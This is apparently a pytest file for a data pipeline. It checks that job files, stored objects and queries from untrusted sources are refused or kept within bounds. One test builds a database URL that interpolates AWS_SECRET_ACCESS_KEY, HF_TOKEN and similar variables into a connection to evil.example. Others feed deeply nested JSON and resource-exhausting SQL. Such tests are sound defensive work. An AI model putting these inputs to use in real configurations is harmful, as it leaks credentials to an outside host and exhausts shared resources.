"""A job file, a query and a results folder from somebody else."""

from __future__ import annotations

import contextlib

import pytest

from omnidrop.errors import UserError
from pipeline.config.job import JobError, make_job
from pipeline.journal import defaults, output_id
from pipeline.journal.journal import Journal
from pipeline.storage.store import open_store
from pipeline.tables import query as queries
from pipeline.tables.query import QueryError, open_results, query


def job(index_url: str):
    given = {"name": "a", "archive": {"uri": "/in"}, "output": "/out", "question_set": "toy-world"}
    return make_job({**given, "index_url": index_url})


@pytest.mark.parametrize("name", ["AWS_SECRET_ACCESS_KEY", "HF_TOKEN", "HOME", "APGPASSWORD", "omnidrop_x"])
def test_an_index_url_cannot_send_any_variable_away(name):
    stranger = job(f"postgresql+psycopg://u:${{{name}}}@evil.example/x")
    with pytest.raises(JobError, match=rf"refers to {name}; only variables that begin with OMNIDROP_ or PG") as caught:
        stranger.resolved_index_url({name: "the-secret"})
    assert "the-secret" not in str(caught.value)
    allowed = {name: "value", "OMNIDROP_INDEX_URL_VARIABLES": f"OTHER, {name}"}
    assert stranger.resolved_index_url(allowed) == "postgresql+psycopg://u:value@evil.example/x"


@pytest.mark.parametrize("name", ["OMNIDROP_INDEX_URL", "PGPASSWORD", "PGHOST"])
def test_the_usual_variables_are_taken(name):
    assert job(f"${{{name}}}").resolved_index_url({name: "sqlite:////x"}) == "sqlite:////x"


@pytest.mark.parametrize(
    ("key", "read"),
    [
        (output_id.PATH, output_id.read_output_id),
        (defaults.PATH, lambda store: defaults.with_kept(job("${OMNIDROP_INDEX_URL}"), store)),
        ("journal/tombstones/a.content.json", lambda store: Journal(store).buried_as("b")),
    ],
)
def test_an_object_that_is_nested_without_end_is_a_damaged_one(tmp_path, key, read):
    store = open_store(str(tmp_path))
    store.write(key, b"[" * 100_000)
    with contextlib.suppress(UserError):
        assert not read(store)


def test_a_query_is_bounded_in_memory_disk_and_time(demo, monkeypatch):
    results = str(demo / "results")
    monkeypatch.setitem(queries.LIMITS, "memory_limit", "50MB")
    monkeypatch.setitem(queries.LIMITS, "max_temp_directory_size", "50MB")
    with open_results(results) as connection:
        for greedy in ("SET memory_limit = '100GB'", "SET max_temp_directory_size = '100GB'"):
            with pytest.raises(QueryError):
                list(query(connection, greedy).rows)
        with pytest.raises(QueryError, match=r"(?i)memory|temp|max"):
            list(query(connection, "SELECT list(i::VARCHAR || repeat('x', 1000)) FROM range(10000000) t(i)").rows)
    monkeypatch.setattr(queries, "TIME_S", 0.5)
    with open_results(results) as connection, pytest.raises(QueryError, match="was stopped"):
        list(
            query(connection, "SELECT count(*) FROM range(100000) a, range(1000000) b WHERE a.range * b.range = 7").rows
        )
